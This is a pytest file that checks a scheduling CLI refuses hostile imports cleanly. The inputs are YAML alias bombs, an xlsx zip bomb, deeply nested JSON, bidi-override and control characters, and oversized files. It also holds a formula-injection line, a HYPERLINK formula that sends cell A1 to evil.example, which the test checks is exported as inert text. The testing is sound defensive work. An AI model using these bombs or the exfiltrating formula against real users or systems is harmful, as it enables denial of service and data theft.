"""Hostile and careless input, fed through the CLI as a user would: each is refused with exit 2 and
a message that names the file, entry and field, in seconds and bounded memory, and leaves the
database as it was, still answering `roster`."""
from __future__ import annotations

import io
import json
import resource
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest

from ..conftest import BIANBAN, CORPUS

ABFLOW = str(Path(sys.executable).with_name("abflow"))
MEMORY = 1536 * 1024 * 1024  # address space a refusal may use, interpreter and libraries included


@pytest.fixture
def loaded(cli):
    assert cli("import", str(BIANBAN)).exit_code == 0
    return cli


def state(cli) -> str:
    """What the database holds, as the roster of a day and the export see it."""
    return json.dumps(cli.json("roster", "--date", "2026-11-25"), sort_keys=True) + str(
        len(cli.json("stats")["processes"]))


def refused(cli, *args, says: str) -> str:
    before = state(cli)
    result = cli(*args)
    assert result.exit_code == 2, result.output
    assert says in result.stderr, result.stderr
    assert "Traceback" not in result.output
    assert state(cli) == before
    return result.stderr


def bounded(url: str, *args: str, says: str, seconds: float = 20) -> None:
    """The real command, in a process of its own that may use at most MEMORY of address space."""
    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (MEMORY, MEMORY))
    started = time.monotonic()
    result = subprocess.run([ABFLOW, "--db", url, *args], capture_output=True, text=True, timeout=seconds * 3,
                            preexec_fn=limit)
    took = time.monotonic() - started
    assert result.returncode == 2, result.stderr[-2000:]
    assert says in result.stderr and "Traceback" not in result.stderr
    assert took < seconds, f"took {took:.1f} s"


def test_yaml_aliases_that_would_expand_to_gigabytes_are_refused(loaded, tmp_path):
    lines = ["version: 1", "a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 10) + "]" for i in range(1, 9)]
    lines.append("people: [{id: p1, name: *a8, section: bb-zh}]")
    bomb = tmp_path / "bomb.yaml"
    bomb.write_text("\n".join(lines) + "\n", encoding="utf-8")
    assert bomb.stat().st_size < 2000
    bounded(loaded.url, "import", str(bomb), says="bomb.yaml: the file (line 2): a YAML anchor here (&name) is used again by an alias")
    refused(loaded, "absences", "import", str(bomb), says="is used again by an alias")
    refused(loaded, "import", str(bomb), says="is used again by an alias")


def test_a_spreadsheet_that_unpacks_to_far_more_than_it_weighs_is_refused_from_its_directory(loaded, tmp_path):
    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/sharedStrings.xml", "<sst><si><t>" + "a" * (60 * 1024 * 1024) + "</t></si></sst>")
    assert bomb.stat().st_size < 200_000
    bounded(loaded.url, "import", str(bomb), says="xl/sharedStrings.xml: unpacks")
    refused(loaded, "import", str(bomb), says="times its packed size")


def test_a_spreadsheet_with_thousands_of_bad_rows_lists_a_hundred_and_counts_the_rest(loaded, tmp_path):
    from openpyxl import Workbook
    book = Workbook()
    sheet = book.active
    sheet.title = "absences"
    sheet.append(["person", "start", "end", "reason"])
    for i in range(5000):
        sheet.append([f"nobody{i}", "2026-12-01", "2026-12-02", "leave", "stray"])
    path = tmp_path / "rows.xlsx"
    book.save(path)
    err = refused(loaded, "import", str(path), says="value in column E, which has no header")
    assert err.count("\nerror: ") <= 101 and "more problem(s) not listed" in err


@pytest.mark.parametrize("text,says", [
    ('{"version": 1, "people": ' + "[" * 100_000 + "]" * 100_000 + "}", "nested too deep"),
    ('{"version": 1, "people": [{"id": "p\\ud800", "name": "x", "section": "bb-zh"}]}', "lone surrogate"),
    ('{"version": 1, "people": [{"id": "p1", "name": "a\\u0000b", "section": "bb-zh"}]}',
     "field 'name': 'a\\x00b' holds a control character"),
    ('{"version": 1, "departments": [{"id": "d", "name": "d", "batch": ' + "9" * 5000 + "}]}",
     "holds a number of more digits than Python reads"),
    ('{"version": 1, "departments": [{"id": "d", "name": "d", "batch": 1000000000000000000000000000000}]}',
     "must be at most 1,000,000"),
    ('{"version": 1, "departments": [{"id": "a/b", "name": "d"}]}', "field 'id': 'a/b' is no id"),
    ('{"version": 1, "departments": [{"id": "' + "x" * 100_000 + '", "name": "d"}]}',
     "department " + "x" * 64 + "… (line 1), field 'id': is 100000 characters long; at most 500"),
    ('{"version": 1, "departments": [{"id": "d\\u200b", "name": "d"}]}', "is no id"),
    ('{"version": 1, "absences": [{"person": "bb03", "start": "0001-01-01", "end": "9999-12-31"}]}',
     "field 'start': 0001-01-01 is outside 1900–2100"),
    ('{"version": 1, "departments": [{"id": "d", "name": "gpj.\u202eexe"}]}', "holds U+202E, which reorders"),
    ('{"version": 1, "departments": [{"id": "d", "name": "\u2066隔离\u2069"}]}', "holds U+2066"),
    ('{"version": 1, "departments": [{"id": "d", "name": "一行\u2028两行"}]}', "holds U+2028"),
    ('{"version": 1, "departments": [{"id": "d", "name": "段\u2029落"}]}', "holds U+2029"),
])
def test_json_values_no_reader_lets_in(loaded, tmp_path, text, says):
    path = tmp_path / "bad.json"
    path.write_text(text, encoding="utf-8")
    refused(loaded, "import", str(path), says=says)


@pytest.mark.parametrize("step,says", [
    ("{id: s1, name: 受理, a: bb03, b: bb04, minutes: .nan}", "field 'minutes': must be a finite number, not nan"),
    ("{id: s1, name: 受理, a: bb03, b: bb04, per_month: .inf}", "field 'per_month': must be a finite number"),
    ("{id: s1, name: 受理, a: bb03, b: bb04, minutes: -5}", "field 'minutes': must be 0 or more"),
    ('{id: s1, name: "受理\\n审核", a: bb03, b: bb04}', "field 'name': '受理\\n审核' holds a control character"),
    ("{id: s1, name: 受理, a: bb03, b: bb04, shape: 'nan 0 10 10'}", "field 'shape'"),
    ("{id: s1, name: 受理, a: bb03, b: bb04, gateway: parallel}", "field 'gateway': only a gateway has a gateway type"),
    ("{id: s1, name: 受理, kind: gateway, gateway: sideways}", "field 'gateway': must be one of exclusive, parallel"),
])
def test_step_values_no_reader_lets_in(loaded, tmp_path, step, says):
    text = BIANBAN.read_text(encoding="utf-8").replace(
        "{id: s1, name: 收文登记, next: [s2], a: bb03, b: bb04, minutes: 5, per_month: 160}", step, 1)
    path = tmp_path / "steps.yaml"
    path.write_text(text, encoding="utf-8")
    refused(loaded, "import", str(path), says=says)


def _bpmn(task: str) -> str:
    return ('<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL" '
            'xmlns:abflow="https://abflow.example/bpmn"><process id="p">' + task + "</process></definitions>")


def test_text_taken_as_printable_at_c_speed_holds_no_character_the_checks_refuse():
    """`text_problem`, `step_id_problem` and `named` pass printable text without looking at each
    character: sound while no character `str.isprintable` accepts is one they refuse."""
    import unicodedata

    from flows.limits import BIDI_AND_BREAKS
    refused = [c for c in map(chr, range(sys.maxunicode + 1)) if c.isprintable()
               and (unicodedata.category(c) in ("Cc", "Cs", "Cf", "Co", "Cn") or c in BIDI_AND_BREAKS)]
    assert refused == []


@pytest.mark.parametrize("task,says", [
    ('<task name="no id"/>', "task has no id"),
    ('<task id="t" name="a"/><task id="t" name="b"/>', "task id 't' is used twice"),
    ('<task id="t" name="a" abflow:minutes="-5"/>', "step t, field 'minutes': must be 0 or more"),
    ('<task id="t" name="a" abflow:per_month="NaN"/>', "step t, field 'per_month': must be a finite number"),
    ('<task id="t/../x" name="a"/>', "step t/../x, field 'id'"),
    ('<task id="t" name="a" abflow:minutes="１"/>', "step t, field 'minutes'"),         # a fullwidth digit
    ('<task id="t" name="a" abflow:minutes="1_000"/>', "step t, field 'minutes'"),
    ('<task id="t" name="a" abflow:minutes=" 1 "/>', "step t, field 'minutes'"),
    ('<task id="t" name="a&#x202E;b"/>', "holds U+202E"),
])
def test_bpmn_values_no_reader_lets_in(loaded, tmp_path, task, says):
    path = tmp_path / "bad.bpmn"
    path.write_text(_bpmn(task), encoding="utf-8")
    refused(loaded, "bpmn", "import", str(path), "--process", "bb-new", "--section", "bb-zh", says=says)


def test_a_drawing_with_coordinates_that_are_no_numbers_is_imported_without_them(loaded, tmp_path):
    """One NaN in a BPMN drawing once made every later read of the database fail."""
    xml = (CORPUS / "miwg-reference-A.1.0.bpmn").read_text(encoding="utf-8")
    poisoned = xml.replace('x="186.0"', 'x="NaN"', 1).replace('y="336.0"', 'y="1e308"', 1)
    assert poisoned != xml
    path = tmp_path / "nan.bpmn"
    path.write_text(poisoned, encoding="utf-8")
    assert loaded("bpmn", "import", str(path), "--process", "bb-nan", "--section", "bb-zh").exit_code == 0
    assert loaded("roster", "--date", "2026-11-25").exit_code == 0
    assert loaded("export", str(tmp_path / "all.yaml")).exit_code == 0


def test_a_stored_value_that_cannot_be_read_is_named_and_everything_else_still_works(loaded, engine, tmp_path):
    """A row written by an older version or by hand must not take every page and command down."""
    from sqlalchemy import text
    with engine.begin() as conn:
        conn.execute(text("UPDATE step SET shape = 'NaN 0 10 10' WHERE process_id = 'bb-p1' AND id = 's1'"))
        conn.execute(text("UPDATE step SET minutes = 'NaN' WHERE process_id = 'bb-p1' AND id = 's2'")
                     if engine.dialect.name == "postgresql" else
                     text("UPDATE step SET minutes = 9e999 WHERE process_id = 'bb-p1' AND id = 's2'"))
    from roles.storage.organisation import load
    wb = load(engine)
    assert any("process bb-p1, after, step s1, field 'shape'" in d for d in wb.damaged)
    assert any("step s2, field 'minutes'" in d for d in wb.damaged)
    assert loaded("roster", "--date", "2026-11-25").exit_code == 0
    assert loaded("stats", "--json").exit_code == 0
    assert loaded("export", str(tmp_path / "repaired.yaml")).exit_code == 0


def test_options_that_name_nothing_usable(loaded, tmp_path):
    refused(loaded, "roster", "--date", "9999-12-31", says="9999-12-31 is outside 1900–2100")
    out = str(tmp_path / "x.pdf")
    refused(loaded, "render", "bb-p1", "-o", str(tmp_path / "x.svg"), "--date", "0001-01-01", says="outside 1900–2100")
    refused(loaded, "print", "bb-p1", "-o", out, "--date", "2200-01-01", says="outside 1900–2100")
    refused(loaded, "print", "bb-p1", "-o", out, "--effective", "1899-12-31", says="outside 1900–2100")
    refused(loaded, "print", "bb-p1", "-o", out, "--approver", "张\x01三", says="field 'approver': '张\\x01三' holds a control")
    refused(loaded, "print", "bb-p1", "-o", out, "--approver", "审" * 33, says="field 'approver': is 33 characters long")
    refused(loaded, "print", "bb-p1", "-o", out, "--approver", "李\u202e四", says="holds U+202E")
    refused(loaded, "handover", "items", "99999999999999999999", "--text", "x", says="no handover")
    refused(loaded, "gaps", "--from", "1000-01-01", "--to", "1000-01-02", says="outside 1900–2100")
    refused(loaded, "scheduler", "--timezone", "Mars/Olympus", says="no time zone 'Mars/Olympus'")
    not_a_db = tmp_path / "notes.txt"
    not_a_db.write_text("not a database\n", encoding="utf-8")
    result = loaded.runner.invoke(__import__("ui.cli", fromlist=["main"]).main,
                                  ["--db", f"sqlite:///{not_a_db}", "roster"])
    assert result.exit_code == 3 and "file is not a database" in result.stderr
    assert not_a_db.read_text(encoding="utf-8") == "not a database\n"


def test_an_oversized_file_is_refused_before_it_is_read(loaded, tmp_path):
    big = tmp_path / "big.json"
    with big.open("wb") as f:
        f.write(b'{"version": 1, "people": [')
        f.seek(300 * 1024 * 1024)
        f.write(b"]}")
    bounded(loaded.url, "import", str(big), says="big.json: the file: is 300.0 MB; at most 256 MB")


def test_yaml_json_and_xlsx_quote_values_cut_short(loaded, tmp_path):
    path = tmp_path / "long.yaml"
    path.write_text("version: 1\ndepartments:\n  - {id: d, name: d, batch: " + "x" * 10_000 + "}\n", encoding="utf-8")
    err = refused(loaded, "import", str(path), says="field 'batch': must be a whole number")
    assert len(err) < 500


def test_the_problem_list_of_an_in_memory_reader_is_bounded():
    from flows.errors import Problem, Problems
    found = Problems(3)
    for i in range(10):
        found.append(Problem("f", f"entry {i}", None, None, "bad"))
    assert len(found) == 3 and found.error().lines()[-1] == "… and 7 more problem(s) not listed"


def test_the_leave_list_reader_refuses_as_the_workbook_reader_does(loaded, tmp_path):
    path = tmp_path / "leave.xlsx"
    from openpyxl import Workbook
    book = Workbook()
    book.active.title = "absences"
    book.active.append(["person", "start", "end", "reason"])
    book.active.append(["bb03", "2026-12-01", "2026-12-02", "leave", "（备注）"])
    book.save(path)
    refused(loaded, "absences", "import", str(path), says="value in column E, which has no header")


def test_io_of_a_zip_directory_alone_is_cheap():
    """The zip check reads only the directory: a refusal costs no unpacking."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("xl/worksheets/sheet1.xml", "<x/>" * 5_000_000)
    from flows.errors import BadInput
    from roles.formats.workbook_files import read_tree
    started = time.monotonic()
    with pytest.raises(BadInput, match="times its packed size"):
        read_tree(buffer.getvalue(), "z.xlsx")
    assert time.monotonic() - started < 1


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_a_name_that_looks_like_a_formula_is_written_as_text_and_imports_back(loaded, tmp_path):
    text = BIANBAN.read_text(encoding="utf-8").replace("name: 赵文静", "name: '" + FORMULA.replace("'", "''") + "'", 1)
    path = tmp_path / "formula.yaml"
    path.write_text(text, encoding="utf-8")
    assert loaded("import", str(path)).exit_code == 0
    from openpyxl import load_workbook
    for command, file in (("export", "all.xlsx"), ("report", "report.xlsx")):
        out = tmp_path / file
        args = [command, str(out)] if command == "export" else [command, "--xlsx", str(out)]
        assert loaded(*args).exit_code == 0
        cells = [c for ws in load_workbook(out).worksheets for row in ws.iter_rows() for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"]
    people = {p["id"]: p["name"] for p in __import__("yaml").safe_load(path.read_text(encoding="utf-8"))["people"]}
    assert people["bb01"] == FORMULA
    again = tmp_path / "again.yaml"
    assert loaded("import", str(tmp_path / "all.xlsx")).exit_code == 0
    assert loaded("export", str(again)).exit_code == 0
    assert FORMULA in again.read_text(encoding="utf-8")


def _ics(*events: str) -> bytes:
    body = "".join(f"BEGIN:VEVENT\r\nUID:e{i}\r\nSUMMARY:孙晓燕 年假\r\nX-ABFLOW-PERSON:bb03\r\n{e}END:VEVENT\r\n"
                   for i, e in enumerate(events))
    return f"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//test//\r\n{body}END:VCALENDAR\r\n".encode()


def _leave(cli, tmp_path, *events: str, ok: bool = True):
    path = tmp_path / "leave.ics"
    path.write_bytes(_ics(*events))
    if ok:
        return cli.json("absences", "import", str(path))["absences"]
    return path


def test_a_weekly_repeat_is_every_occurrence_and_a_duration_is_honoured(loaded, tmp_path):
    weekly = _leave(loaded, tmp_path, "DTSTART;VALUE=DATE:20261207\r\nDTEND;VALUE=DATE:20261208\r\n"
                                      "RRULE:FREQ=WEEKLY;COUNT=10\r\nEXDATE;VALUE=DATE:20261228\r\n")
    assert [a["start"] for a in weekly] == ["2026-12-07", "2026-12-14", "2026-12-21", "2027-01-04", "2027-01-11",
                                            "2027-01-18", "2027-01-25", "2027-02-01", "2027-02-08"]
    assert all(a["start"] == a["end"] for a in weekly)
    ten_days = _leave(loaded, tmp_path, "DTSTART;VALUE=DATE:20261201\r\nDURATION:P10D\r\n")
    assert ten_days == [{"person": "bb03", "start": "2026-12-01", "end": "2026-12-10", "reason": "leave"}]


@pytest.mark.parametrize("event,says", [
    ("DTSTART;VALUE=DATE:20261207\r\nRRULE:FREQ=DAILY\r\n", "field 'rrule': repeats beyond 366 times"),
    ("DTSTART;VALUE=TIME:120000\r\n", "field 'dtstart': must be a date or a date and time, not time"),
    ("DTSTART;VALUE=PERIOD:20261201T000000Z/20261202T000000Z\r\n", "field 'dtstart': must be a date"),
    ("DTSTART;VALUE=DATE:00010101\r\nDTEND;VALUE=DATE:99991231\r\n", "field 'dtstart': 0001-01-01 is outside"),
    ("DTSTART;VALUE=DATE:20261201\r\nDURATION:-P10D\r\n", "field 'duration'"),
])
def test_leave_events_that_would_be_misread_are_refused(loaded, tmp_path, event, says):
    path = _leave(loaded, tmp_path, event, ok=False)
    refused(loaded, "absences", "import", str(path), says=says)


def _raw_xlsx(path: Path, sheet_xml: str) -> None:
    """A spreadsheet made of its parts, as any program may write one (openpyxl always sizes it)."""
    main = "http://schemas.openxmlformats.org"
    parts = {
        "[Content_Types].xml": f'<Types xmlns="{main}/package/2006/content-types"><Default Extension="rels" '
        f'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
        'ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/'
        'sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{main}/package/2006/relationships"><Relationship Id="rId1" '
        f'Type="{main}/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook xmlns="{main}/spreadsheetml/2006/main" xmlns:r="{main}/officeDocument/2006/'
        'relationships"><sheets><sheet name="absences" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{main}/package/2006/relationships"><Relationship '
        f'Id="rId1" Type="{main}/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
        "</Relationships>",
        "xl/worksheets/sheet1.xml": sheet_xml}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for part, text in parts.items():
            z.writestr(part, text)


def test_a_sheet_that_declares_no_size_is_counted_before_it_is_opened(loaded, tmp_path):
    """openpyxl parses a whole sheet without <dimension> just to open it: 3 million rows took 70 s."""
    rows = "".join(f'<row r="{i}"><c r="A{i}" t="inlineStr"><is><t>bb03</t></is></c></row>'
                   for i in range(2, 250_002))
    path = tmp_path / "rows.xlsx"
    _raw_xlsx(path, '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
                    '<row r="1"><c r="A1" t="inlineStr"><is><t>person</t></is></c></row>' + rows
                    + "</sheetData></worksheet>")
    bounded(loaded.url, "import", str(path), says="xl/worksheets/sheet1.xml: holds more than 200,000 rows",
            seconds=10)
